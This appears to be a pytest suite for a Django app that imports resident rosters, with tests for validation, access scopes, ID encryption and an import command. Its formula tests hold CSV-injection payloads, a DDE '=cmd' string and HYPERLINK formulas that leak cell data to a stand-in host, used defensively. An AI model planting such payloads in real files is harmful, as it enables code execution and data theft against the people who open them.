"""Importing resident rosters: uploads through the screens, the preview, the commit, the
template and the import_residents command."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django_tasks_db.models import DBTaskResult

from grid.models import Area, Role, Scope, User
from outreach.common import crypto
from outreach.models import AuditEvent, Job, Resident, RosterImport
from outreach.reporting import tallies
from outreach.residents import services
from outreach.residents.roster import services as roster
from outreach.residents.validation import clean_national_id
from tests import factories
from tests.tasks import run_tasks

pytestmark = pytest.mark.django_db

HEADERS = [
    "姓名*",
    "性别",
    "出生日期",
    "身份证号",
    "电话",
    "住址*",
    "网格编码",
    "纬度",
    "经度",
    "类别",
    "残疾等级",
    "照护等级*",
    "监护人",
    "监护人电话",
    "与监护人关系",
    "同意依据*",
    "同意日期",
]
FIELDS = [
    "name",
    "sex",
    "birth_date",
    "national_id",
    "phone",
    "address",
    "grid_code",
    "lat",
    "lng",
    "categories",
    "disability_grade",
    "care_level",
    "guardian_name",
    "guardian_phone",
    "guardian_relation",
    "consent_basis",
    "consent_on",
]


@pytest.fixture
def grids():
    return {
        "grid1": Area.objects.get(name="绣湖社区第1网格"),
        "grid2": Area.objects.get(name="绣湖社区第2网格"),
        # a grid of another community: it exists, but not for the station of 绣湖社区
        "elsewhere": Area.objects.filter(level=Area.Level.GRID)
        .exclude(parent__name="绣湖社区")
        .order_by("code")
        .first(),
    }


def good_row(grids, sequence: int = 1, **changes) -> dict:
    values = {
        "name": f"居民{sequence}",
        "national_id": factories.national_id(born="19450315", sequence=sequence),
        "phone": "13900000000",
        "address": f"绣湖路{sequence}号",
        "grid_code": grids["grid1"].code,
        "categories": "独居老人、高龄80+",
        "care_level": "A",
        "guardian_name": "张小明",
        "guardian_phone": "13900000001",
        "guardian_relation": "儿子",
        "consent_basis": "本人书面同意",
        "consent_on": "2026-01-05",
    }
    values.update(changes)
    return values


def xlsx(rows: list[dict], headers=HEADERS, fields=FIELDS) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(f) for f in fields])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_file(rows: list[dict], encoding: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADERS)
    for row in rows:
        writer.writerow(["" if row.get(f) is None else row.get(f) for f in FIELDS])
    return out.getvalue().encode(encoding)


def upload(client, data: bytes, name: str = "花名册.xlsx"):
    return client.post(reverse("roster-import"), {"file": SimpleUploadedFile(name, data)})


def staged_import(client, data: bytes, name: str = "花名册.xlsx") -> RosterImport:
    response = upload(client, data, name)
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    return RosterImport.objects.get(pk=int(response.url.rstrip("/").split("/")[-1]))


def preview_page(client, staged: RosterImport):
    """The roster's page once its check (a background job) has run."""
    run_tasks()
    return client.get(reverse("roster-preview", args=[staged.pk]))


def preview(client, staged: RosterImport):
    response = preview_page(client, staged)
    assert response.status_code == 200
    return response.context["check"]


def commit(client, staged: RosterImport):
    """Press Import: the import runs as a background job; the roster's page once it has."""
    response = client.post(reverse("roster-commit", args=[staged.pk]))
    assert response.status_code == 302 and response.url == reverse("roster-preview", args=[staged.pk])
    return preview_page(client, staged)


def errors_by_row(check) -> dict[int, list[tuple[str, str]]]:
    return {report.row: [(issue.column, issue.message) for issue in report.issues] for report in check.bad_rows}


def imported_events():
    return AuditEvent.objects.filter(action=AuditEvent.Action.RESIDENTS_IMPORTED)


# --- whole files -------------------------------------------------------------------------


def id_message(value: str) -> str:
    with pytest.raises(ValidationError) as caught:
        clean_national_id(value)
    return caught.value.messages[0]


def test_a_file_with_bad_rows_writes_nothing_and_reports_every_bad_row(client_for, grids):
    client = client_for("station")
    wrong_check_digit = factories.national_id(born="19450315", sequence=2)[:-1] + (
        "1" if factories.national_id(born="19450315", sequence=2)[-1] != "1" else "2"
    )
    thirtieth_of_february = factories.with_check_digit("33078219450230001")
    rows = [
        good_row(grids, 1),  # row 2: fine
        good_row(grids, 2, national_id=wrong_check_digit),  # row 3
        good_row(grids, 3, national_id=thirtieth_of_february),  # row 4
        good_row(grids, 4, national_id="3307821945031"),  # row 5: too short
        good_row(grids, 5, grid_code="999999999999"),  # row 6: no such grid
        good_row(grids, 6, grid_code="", lat="北纬29度", lng="120.1"),  # row 7: not numbers
        good_row(grids, 7, grid_code="", lat=48.85, lng=2.35),  # row 8: Paris
        good_row(grids, 8, grid_code="", lat=29.3),  # row 9: latitude only
        good_row(grids, 9, name=""),  # row 10: no name
        good_row(grids, 10, care_level="D"),  # row 11
        good_row(grids, 11, consent_basis="口头同意"),  # row 12
        good_row(grids, 12, categories="独居老人、低收入"),  # row 13
        good_row(grids, 13, categories="残疾"),  # row 14: no grade
        good_row(grids, 14, categories="残疾", disability_grade="5"),  # row 15
        good_row(grids, 15, consent_on="2026-13-01"),  # row 16
        good_row(grids, 16, address=""),  # row 17
        good_row(grids, 17, grid_code=""),  # row 18: neither grid nor position
        good_row(grids, 18, sex="未知", national_id=""),  # row 19
        good_row(grids, 19, birth_date="1850-01-01", national_id=""),  # row 20
        good_row(grids, 20, phone="电话13900000000"),  # row 21
        good_row(grids, 21, grid_code="", lat=95, lng=200),  # row 22: out of range
    ]
    before = Resident.objects.count()
    staged = staged_import(client, xlsx(rows))
    check = preview(client, staged)
    found = errors_by_row(check)

    expected_columns = {
        3: "身份证号",
        4: "身份证号",
        5: "身份证号",
        6: "网格编码",
        7: "纬度",
        8: "纬度",
        9: "纬度",
        10: "姓名*",
        11: "照护等级*",
        12: "同意依据*",
        13: "类别",
        14: "残疾等级",
        15: "残疾等级",
        16: "同意日期",
        17: "住址*",
        18: "网格编码",
        19: "性别",
        20: "出生日期",
        21: "电话",
        22: "纬度",
    }
    assert {row: [column for column, _ in issues] for row, issues in found.items()} == {
        row: [column] for row, column in expected_columns.items()
    }
    assert (check.row_count, check.valid_count, check.error_count) == (21, 1, 20)
    # The ID problems are told apart, with the validator's own words.
    assert [found[row][0][1] for row in (3, 4, 5)] == [
        id_message(wrong_check_digit),
        id_message(thirtieth_of_february),
        id_message("3307821945031"),
    ]
    assert len({found[row][0][1] for row in (3, 4, 5)}) == 3
    html = preview_page(client, staged).content.decode()
    for row in expected_columns:
        assert f'id="row-{row}"' in html
    assert 'id="row-2"' not in html
    assert reverse("roster-commit", args=[staged.pk]) not in html  # no commit button

    # Committing anyway (a crafted POST) re-checks and writes nothing.
    response = commit(client, staged)
    assert response.status_code == 409
    assert response.context["check"].error_count == 20
    assert Resident.objects.count() == before
    assert not imported_events().exists()
    staged.refresh_from_db()
    assert staged.committed_at is None


def test_a_good_workbook_writes_every_row_with_categories_and_protected_ids(client_for, grids):
    client = client_for("station")
    id_with_x = next(
        n for n in (factories.national_id(born="19400101", sequence=s) for s in range(1, 999)) if n.endswith("X")
    )
    rows = [
        good_row(grids, 1),
        # Lower-case x, as people type it; sex and birth date come from the ID.
        good_row(
            grids,
            2,
            national_id=id_with_x.lower(),
            categories="残疾 行动不便",
            disability_grade="二级",
            care_level="b",
            consent_basis="guardian",
            sex="男",
            grid_code=grids["grid2"].code,
        ),
        # No ID: sex and birth date from their own columns; an Excel date cell.
        good_row(
            grids,
            3,
            national_id="",
            sex="女",
            birth_date=date(1938, 6, 1),
            categories="dibao;tekun",
            consent_basis="法定职责",
            care_level="C",
        ),
    ]
    staged = staged_import(client, xlsx(rows))
    check = preview(client, staged)
    assert check.ok and check.row_count == 3, errors_by_row(check)

    page = commit(client, staged)

    residents = {r.name: r for r in Resident.objects.filter(name__in=["居民1", "居民2", "居民3"])}
    assert len(residents) == 3
    first, second, third = residents["居民1"], residents["居民2"], residents["居民3"]
    number = factories.national_id(born="19450315", sequence=1)
    assert crypto.decrypt(first.national_id_cipher) == number
    assert first.national_id_digest == crypto.digest(number)
    assert first.national_id_masked == number[:6] + "********" + number[-4:]
    assert (first.birth_date, first.sex) == (date(1945, 3, 15), "M")  # sequence 001: odd, a man
    assert first.grid == grids["grid1"] and first.care_level == "A" and first.consent_basis == "written"
    assert first.consent_on == date(2026, 1, 5) and first.guardian_relation == "儿子"
    assert first.registered_on == timezone.localdate() == first.due_on and first.last_met_on is None
    assert sorted(c.category for c in first.categories.all()) == ["aged80", "alone"]

    assert crypto.decrypt(second.national_id_cipher) == id_with_x
    sex = "M" if int(id_with_x[16]) % 2 else "F"
    assert (second.birth_date, second.sex, second.grid) == (date(1940, 1, 1), sex, grids["grid2"])
    assert (second.disability_grade, second.care_level, second.consent_basis) == (2, "B", "guardian")
    assert sorted(c.category for c in second.categories.all()) == ["disabled", "mobility"]

    assert (third.national_id_cipher, third.national_id_masked, third.national_id_digest) == ("", "", "")
    assert (third.sex, third.birth_date, third.consent_basis) == ("F", date(1938, 6, 1), "statutory")
    assert sorted(c.category for c in third.categories.all()) == ["dibao", "tekun"]

    event = imported_events().get()
    assert event.actor.username == "station"
    assert event.detail == {"import": staged.pk, "filename": "花名册.xlsx", "count": 3}
    staged.refresh_from_db()
    assert staged.committed_at is not None and staged.resident_count == 3
    assert bytes(staged.content) == b""  # the plain IDs do not outlive the import
    assert page.context["check"] is None and page.context["staged"].resident_count == 3
    # counted in the due tallies (coverage for today) as they were written: nothing to repair
    assert tallies.due_differences() == []
    assert tallies.residents_due(areas=[grids["grid2"].pk], today=timezone.localdate())[grids["grid2"].pk][0] >= 1


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_csv_in_utf8_with_bom_and_in_gb18030(client_for, grids, encoding):
    client = client_for("station")
    data = csv_file([good_row(grids, 1), good_row(grids, 2, categories="空巢老人,退役军人/优抚对象")], encoding)
    staged = staged_import(client, data, name="花名册.csv")
    # The staged file is encrypted at rest: no national ID in it reads in the clear.
    assert factories.national_id(born="19450315", sequence=1).encode() not in bytes(staged.content)
    assert roster.staged_file(staged) == data
    assert preview(client, staged).ok
    commit(client, staged)
    second = Resident.objects.get(name="居民2")
    assert second.address == "绣湖路2号"
    assert sorted(c.category for c in second.categories.all()) == ["empty_nest", "veteran"]


def test_english_headers_in_any_order_and_unknown_columns_listed_as_ignored(client_for, grids):
    client = client_for("station")
    fields = ["Care_Level", "NAME", "address", "grid code", "consent_basis", "备注"]
    row = {
        "Care_Level": "A",
        "NAME": "王大妈",
        "address": "绣湖路9号",
        "grid code": grids["grid2"].code,
        "consent_basis": "statutory",
        "备注": "腿脚不便",
    }
    staged = staged_import(client, xlsx([row], headers=fields, fields=fields))
    check = preview(client, staged)
    assert check.ok and check.ignored_columns == ["备注"]
    assert "备注" in preview_page(client, staged).content.decode()


# --- grids and positions --------------------------------------------------------------------


def test_grid_found_from_the_position_and_a_position_outside_the_named_grid_is_a_warning(client_for, grids):
    client = client_for("station")
    grid1, grid2, elsewhere = grids["grid1"], grids["grid2"], grids["elsewhere"]
    rows = [
        good_row(grids, 1, grid_code="", lat=grid2.centroid_lat, lng=grid2.centroid_lng),
        good_row(grids, 2, grid_code=grid1.code, lat=grid2.centroid_lat, lng=grid2.centroid_lng),
    ]
    staged = staged_import(client, xlsx(rows))
    check = preview(client, staged)
    assert check.ok
    assert [(report.row, [i.column for i in report.issues]) for report in check.warned_rows] == [(3, ["纬度"])]
    commit(client, staged)
    placed = Resident.objects.get(name="居民1")
    assert (placed.grid, placed.home_lat, placed.home_lng) == (grid2, grid2.centroid_lat, grid2.centroid_lng)
    assert Resident.objects.get(name="居民2").grid == grid1

    # A point in a grid the station does not look after is in none of *its* grids.
    staged = staged_import(
        client, xlsx([good_row(grids, 3, grid_code="", lat=elsewhere.centroid_lat, lng=elsewhere.centroid_lng)])
    )
    assert [column for column, _ in errors_by_row(preview(client, staged))[2]] == ["纬度"]


def test_an_out_of_scope_grid_code_reads_exactly_like_an_unknown_one(client_for, grids):
    client = client_for("station")
    rows = [good_row(grids, 1, grid_code=grids["elsewhere"].code), good_row(grids, 2, grid_code="330782999999")]
    found = errors_by_row(preview(client, staged_import(client, xlsx(rows))))
    ((column2, message2),) = found[2]
    ((column3, message3),) = found[3]
    assert column2 == column3 == "网格编码"
    assert message2.replace(grids["elsewhere"].code, "CODE") == message3.replace("330782999999", "CODE")
    # The street official looks after that grid's town only if it is theirs; the admin sees it.
    assert preview(client_for("admin"), staged_import(client_for("admin"), xlsx(rows[:1]))).ok


# --- national IDs ---------------------------------------------------------------------------


def test_duplicate_ids_in_the_file_and_ids_already_registered(client_for, demo_users, grids):
    client = client_for("station")
    services.resident_create(
        actor=demo_users["station"],
        grid=grids["grid1"],
        name="已登记",
        address="绣湖路1号",
        consent_basis="written",
        national_id=factories.national_id(born="19450315", sequence=50),
    )
    rows = [
        good_row(grids, 1),
        good_row(grids, 2, national_id=factories.national_id(born="19450315", sequence=1)),  # same as row 2
        good_row(grids, 3),
        good_row(grids, 4, national_id=factories.national_id(born="19450315", sequence=50)),  # registered already
        good_row(grids, 5, national_id=factories.national_id(born="19450315", sequence=1)),  # same as rows 2 and 3
    ]
    found = errors_by_row(preview(client, staged_import(client, xlsx(rows))))
    assert sorted(found) == [2, 3, 5, 6]
    assert all(column == "身份证号" for issues in found.values() for column, _ in issues)
    assert "3, 6" in found[2][0][1] and "2, 6" in found[3][0][1] and "2, 3" in found[6][0][1]
    assert len(found[5]) == 1 and "3" not in found[5][0][1].replace("330782", "")


def test_an_id_mangled_by_excel_into_a_number_gets_a_hint(client_for, grids):
    client = client_for("station")
    number = factories.national_id(born="19450315", sequence=7)
    rows = [good_row(grids, 1, national_id=float(number)), good_row(grids, 2, national_id="3.30782E+17")]
    found = errors_by_row(preview(client, staged_import(client, xlsx(rows))))
    assert found[2] == found[3] and found[2][0][0] == "身份证号"


def test_commit_checks_again_and_writes_nothing_when_an_id_was_registered_meanwhile(client_for, demo_users, grids):
    client = client_for("station")
    staged = staged_import(client, xlsx([good_row(grids, 1), good_row(grids, 2)]))
    assert preview(client, staged).ok
    services.resident_create(
        actor=demo_users["worker"],
        grid=grids["grid1"],
        name="抢先登记",
        address="绣湖路2号",
        consent_basis="written",
        national_id=factories.national_id(born="19450315", sequence=2),
    )
    before = Resident.objects.count()
    response = commit(client, staged)
    assert response.status_code == 409
    assert sorted(errors_by_row(response.context["check"])) == [3]
    assert Resident.objects.count() == before and not imported_events().exists()


def test_a_second_commit_is_refused(client_for, grids):
    client = client_for("station")
    staged = staged_import(client, xlsx([good_row(grids, 1)]))
    assert commit(client, staged).status_code == 200
    count = Resident.objects.count()
    response = client.post(reverse("roster-commit", args=[staged.pk]), follow=True)
    assert response.status_code == 200
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    assert Resident.objects.count() == count and imported_events().count() == 1
    # Two presses before the first import ran (a double tap): the second job finds it done.
    other = staged_import(client, xlsx([good_row(grids, 2)]))
    preview(client, other)
    client.post(reverse("roster-commit", args=[other.pk]))
    client.post(reverse("roster-commit", args=[other.pk]))
    page = preview_page(client, other)
    assert page.status_code == 200 and Resident.objects.count() == count + 1 and imported_events().count() == 2
    jobs = Job.objects.filter(kind=Job.Kind.ROSTER_COMMIT, params__import=other.pk).order_by("created_at")
    assert [j.state for j in jobs] == [Job.State.DONE, Job.State.FAILED]
    assert "已" in jobs[1].error and other.filename in jobs[1].error


# --- file-level problems ----------------------------------------------------------------------


def big_csv(rows: int) -> bytes:
    return ("姓名,住址,网格编码,照护等级,同意依据\n" + "张三,绣湖路1号,1,A,written\n" * rows).encode()


@pytest.mark.parametrize(
    "name, data",
    [
        ("花名册.xlsx", "<!DOCTYPE html><html><body><table><tr><td>姓名</td></tr></table></body></html>".encode()),
        ("花名册.xlsx", b"just some text, not a workbook"),
        ("花名册.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100),
        ("花名册.pdf", b"%PDF-1.4 ..."),
        ("花名册.csv", b"PK\x03\x04" + b"\x00" * 100),
        ("花名册.csv", b""),
        ("花名册.csv", b"\n\n  \n"),
        ("花名册.csv", "姓名,住址,网格编码,照护等级,同意依据\n".encode()),  # header but no rows
        ("花名册.csv", "张三,绣湖路1号,A\n李四,绣湖路2号,B\n".encode()),  # no header row
        ("花名册.csv", "姓名,住址,网格编码\n张三,绣湖路1号,1\n".encode()),  # required columns missing
        ("花名册.csv", "姓名,住址,照护等级,同意依据\n张三,绣湖路1号,A,written\n".encode()),  # neither grid nor position
        ("花名册.csv", big_csv(roster.MAX_ROWS + 1)),
        ("花名册.csv", b"x" * (roster.MAX_BYTES + 1)),
    ],
)
def test_files_that_are_not_rosters_are_refused(client_for, name, data):
    """Too big: refused at upload. Anything else is read by the check job, whose report
    says why the file cannot be imported, with no import button."""
    client = client_for("station")
    response = upload(client, data, name)
    if len(data) > roster.MAX_BYTES or not data:
        assert response.status_code == 200 and response.context["form"].errors["file"]
        assert not RosterImport.objects.exists()
        return
    staged = RosterImport.objects.get()
    page = preview_page(client, staged)
    assert page.status_code == 200 and page.context["check"].file_errors
    assert reverse("roster-commit", args=[staged.pk]) not in page.content.decode()
    assert page.context["check"].file_errors[0] in page.content.decode()


def test_exactly_the_row_limit_is_accepted(client_for):
    client = client_for("station")
    response = upload(client, big_csv(roster.MAX_ROWS), "花名册.csv")
    assert response.status_code == 302
    assert preview(client, RosterImport.objects.get()).row_count == roster.MAX_ROWS
    assert RosterImport.objects.get().row_count == roster.MAX_ROWS


# --- who may import -------------------------------------------------------------------------------


@pytest.mark.parametrize("username", ["worker", "worker2", "secretary"])
def test_other_roles_get_404_everywhere(client_for, grids, username):
    staged = staged_import(client_for("station"), xlsx([good_row(grids, 1)]))
    client = client_for(username)
    assert client.get(reverse("roster-import")).status_code == 404
    assert upload(client, xlsx([good_row(grids, 1)])).status_code == 404
    assert client.get(reverse("roster-template")).status_code == 404
    assert client.get(reverse("roster-preview", args=[staged.pk])).status_code == 404
    assert client.post(reverse("roster-commit", args=[staged.pk])).status_code == 404
    assert not Resident.objects.filter(name="居民1").exists()


def test_a_staged_import_is_its_uploaders_alone(client, client_for, grids):
    staged = staged_import(client_for("station"), xlsx([good_row(grids, 1)]))
    colleague = User.objects.create(username="station_b")
    Scope.objects.create(user=colleague, role=Role.STATION_STAFF, area=Area.objects.get(name="绣湖社区"))
    for user in (colleague, User.objects.get(username="admin")):
        client.force_login(user)
        assert client.get(reverse("roster-preview", args=[staged.pk])).status_code == 404
        assert client.post(reverse("roster-commit", args=[staged.pk])).status_code == 404
    assert not Resident.objects.filter(name="居民1").exists()


def test_login_required(client):
    response = client.get(reverse("roster-import"))
    assert response.status_code == 302 and response.url.startswith(reverse("login"))


# --- pages --------------------------------------------------------------------------------


def test_upload_page_explains_the_columns_and_links_the_template(client_for):
    response = client_for("street").get(reverse("roster-import"))
    html = response.content.decode()
    assert response.status_code == 200
    assert reverse("roster-template") in html and 'enctype="multipart/form-data"' in html
    for column in roster.COLUMNS:
        assert column.template_header in html


def test_template_downloads_and_opens(client_for, grids):
    response = client_for("station").get(reverse("roster-template"))
    assert response.status_code == 200
    assert response["Content-Type"] == roster.XLSX_CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames[:2] == ["花名册", "说明"]
    sheet = workbook["花名册"]
    headers = [c.value for c in sheet[1]]
    assert headers == HEADERS
    assert sheet.freeze_panes == "A2"
    id_letter = openpyxl.utils.get_column_letter(headers.index("身份证号") + 1)
    assert sheet.column_dimensions[id_letter].number_format == "@"
    example = {f: c.value for f, c in zip(FIELDS, sheet[2])}
    assert clean_national_id(example["national_id"]) == example["national_id"]
    assert example["grid_code"] == grids["grid1"].code
    notes = [row[0] for row in workbook["说明"].iter_rows(min_row=2, values_only=True)]
    assert all(header in notes for header in HEADERS)
    codes = {row[0] for row in workbook["网格编码"].iter_rows(min_row=2, values_only=True)}
    assert codes == {grids["grid1"].code, grids["grid2"].code}


def test_the_template_as_downloaded_is_caught_by_its_example_row(client_for):
    client = client_for("station")
    data = b"".join(client.get(reverse("roster-template")).streaming_content)
    found = errors_by_row(preview(client, staged_import(client, data)))
    assert list(found) == [2] and found[2][0][0] == "身份证号"


def rows_for_query_count(grids, count: int, start: int) -> list[dict]:
    return [
        good_row(
            grids,
            start + i,
            grid_code=grids["grid1" if i % 2 else "grid2"].code,
            national_id=factories.national_id(born=f"19{40 + i % 50:02d}0{1 + i % 9}1{i % 9}", sequence=start + i),
        )
        for i in range(count)
    ]


def test_preview_query_count_does_not_grow_with_the_file(client_for, grids, django_assert_num_queries, settings):
    settings.DAIBAN_ID_CHECKS_PER_DAY = 1000
    client = client_for("station")

    # The check job: the user's reach, the grids, the IDs checked today, the registered IDs
    # and the job's own rows, whatever the length of the file. (The bar's progress is
    # written once a second, so its updates are not counted.)
    def checked(data: bytes) -> tuple[RosterImport, int]:
        staged = staged_import(client, data)
        with CaptureQueriesContext(connection) as context:
            assert run_tasks() == 1
        updates = 'UPDATE "outreach_job" SET "done"'
        return staged, sum(1 for q in context.captured_queries if not q["sql"].startswith(updates))

    small, small_count = checked(xlsx(rows_for_query_count(grids, 5, 1)))
    large, large_count = checked(
        xlsx(
            rows_for_query_count(grids, 200, 100)
            + [good_row(grids, 400, grid_code="", lat=grids["grid2"].centroid_lat, lng=grids["grid2"].centroid_lng)]
        )
    )
    assert large_count == small_count
    client.get(reverse("roster-preview", args=[small.pk]))  # warm the session
    # session, user, scopes, the staged import, its latest job (holding the report)
    for staged in (small, large):
        with django_assert_num_queries(5):
            assert client.get(reverse("roster-preview", args=[staged.pk])).context["check"].ok


# --- the command ----------------------------------------------------------------------------


def test_command_checks_then_imports_with_commit(tmp_path, grids):
    path = tmp_path / "花名册.xlsx"
    path.write_bytes(xlsx([good_row(grids, 1), good_row(grids, 2)]))
    out = io.StringIO()
    call_command("import_residents", str(path), user="station", stdout=out)
    assert not Resident.objects.filter(name__in=["居民1", "居民2"]).exists()
    assert "2" in out.getvalue()

    call_command("import_residents", str(path), user="station", commit=True, stdout=io.StringIO())
    assert Resident.objects.filter(name__in=["居民1", "居民2"], grid=grids["grid1"]).count() == 2
    event = imported_events().get()
    assert event.actor.username == "station" and event.detail["count"] == 2


def test_command_prints_every_row_error_and_fails(tmp_path, grids):
    path = tmp_path / "花名册.csv"
    path.write_bytes(
        csv_file(
            [
                good_row(grids, 1),
                good_row(grids, 2, care_level="Z"),
                good_row(grids, 3, grid_code=grids["elsewhere"].code),
            ],
            "utf-8-sig",
        )
    )
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_residents", str(path), user="station", commit=True, stderr=err, stdout=io.StringIO())
    lines = err.getvalue().splitlines()
    assert len(lines) == 2
    assert "3" in lines[0] and "照护等级*" in lines[0] and "(L)" in lines[0]
    assert "4" in lines[1] and "网格编码" in lines[1] and "(G)" in lines[1]
    assert not Resident.objects.filter(name="居民1").exists() and not imported_events().exists()


def test_command_runs_in_the_users_scope(tmp_path, grids):
    path = tmp_path / "花名册.csv"
    path.write_bytes(csv_file([good_row(grids, 1, grid_code=grids["elsewhere"].code)], "utf-8"))
    with pytest.raises(CommandError):
        call_command("import_residents", str(path), user="station", commit=True, stderr=io.StringIO())
    call_command("import_residents", str(path), user="admin", commit=True, stdout=io.StringIO())
    assert Resident.objects.get(name="居民1").grid == grids["elsewhere"]
    with pytest.raises(CommandError):
        call_command("import_residents", str(path), user="worker", stderr=io.StringIO())


# --- review: a secretary's pairings are no place for residents; error reports ------------


def test_a_grid_paired_with_the_importers_branch_is_not_theirs_to_import_into(client_for, demo_users, grids):
    """Station staff of 绣湖社区 who also lead joint branch 1, paired with the grid point of
    a grid elsewhere: they may look at that point, not put residents in its grid."""
    from grid.models import JointBranch, Pairing, ServicePoint

    secretary = demo_users["secretary"]
    Scope.objects.create(user=secretary, role=Role.STATION_STAFF, area=grids["grid1"].parent)
    Pairing.objects.create(
        branch=JointBranch.objects.get(number=1),
        since=date(2024, 1, 1),
        point=ServicePoint.objects.get(area=grids["elsewhere"], tier=ServicePoint.Tier.GRID_POINT),
    )
    client = client_for("secretary")
    template = openpyxl.load_workbook(io.BytesIO(b"".join(client.get(reverse("roster-template")).streaming_content)))
    assert {row[0] for row in template["网格编码"].iter_rows(min_row=2, values_only=True)} == {
        grids["grid1"].code,
        grids["grid2"].code,
    }
    far = grids["elsewhere"]
    staged = staged_import(
        client,
        xlsx(
            [
                good_row(grids, 1),
                good_row(grids, 2, grid_code=far.code),
                good_row(grids, 3, grid_code="", lat=far.centroid_lat, lng=far.centroid_lng),
            ]
        ),
    )
    assert sorted(errors_by_row(preview(client, staged))) == [3, 4]
    response = commit(client, staged)
    assert response.status_code == 409
    assert not Resident.objects.filter(name__startswith="居民").exists()


def test_a_server_error_during_the_import_tells_the_user_and_records_no_national_id(client_for, grids, monkeypatch):
    """The import runs in the worker: a fault there writes nothing, tells the person in
    words they can act on, and leaves the traceback for the administrator with the task —
    a traceback without the roster's bytes or rows (no frame's variables)."""
    client = client_for("station")
    staged = staged_import(client, csv_file([good_row(grids, 1), good_row(grids, 2)], "utf-8"), "花名册.csv")
    preview(client, staged)

    def broken(**kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(roster, "audit", broken)
    page = commit(client, staged)
    assert page.status_code == 200 and not Resident.objects.filter(name__startswith="居民").exists()
    job = Job.objects.get(kind=Job.Kind.ROSTER_COMMIT)
    assert job.state == Job.State.FAILED and "服务器" in job.error and job.error in page.content.decode()
    task = DBTaskResult.objects.get(pk=job.task_id)
    assert task.status == "FAILED" and "boom" in task.traceback
    for sequence in (1, 2):
        assert factories.national_id(born="19450315", sequence=sequence) not in task.traceback + job.error


# --- formulas (issue 13 §1) -----------------------------------------------------------------


def test_names_and_addresses_that_start_like_a_formula_are_refused_row_by_row(client_for, grids):
    """A CSV carries the text as typed: "=cmd|…" in a name is refused with a row error
    that names the sign; a phone starting with "+" is a phone number, not a formula."""
    client = client_for("station")
    rows = [
        good_row(grids, 1, phone="+86 139 0000 0000"),
        good_row(grids, 2, name="=cmd|' /C calc'!A0"),
        good_row(grids, 3, address='=HYPERLINK("http://e.vil/?"&A3,"点击")'),
        good_row(grids, 4, guardian_name="@SUM(1+1)"),
        good_row(grids, 5, guardian_relation="－1+1"),
        good_row(grids, 6, name="＋张三"),
    ]
    check = preview(client, staged_import(client, csv_file(rows, "utf-8-sig"), name="花名册.csv"))
    found = errors_by_row(check)
    assert sorted(found) == [3, 4, 5, 6, 7]
    assert [column for issues in found.values() for column, _ in issues] == [
        "姓名*",
        "住址*",
        "监护人",
        "与监护人关系",
        "姓名*",
    ]
    assert "“=”" in found[3][0][1] and "“＋”" in found[7][0][1]
    assert not Resident.objects.filter(name__contains="cmd").exists()


def test_a_formula_cell_in_a_workbook_is_read_as_its_value_never_as_the_formula(client_for, grids):
    """Cells are read as the values Excel shows: a formula with a saved result gives that
    result; a formula without one (written by a script) reads as an empty cell."""
    client = client_for("station")
    data = xlsx([good_row(grids, 1, name='=HYPERLINK("http://e.vil/?"&B2,"点击")')])
    found = errors_by_row(preview(client, staged_import(client, data)))
    assert [column for column, _ in found[2]] == ["姓名*"]  # empty: the formula never reaches the name


def test_the_template_writes_grid_names_as_text(client_for, grids):
    Area.objects.filter(pk=grids["grid1"].pk).update(name='=HYPERLINK("http://e.vil","第1网格")')
    response = client_for("station").get(reverse("roster-template"))
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = [row[1] for row in workbook["网格编码"].iter_rows(min_row=2, values_only=True)]
    assert '=HYPERLINK("http://e.vil","第1网格")' in names
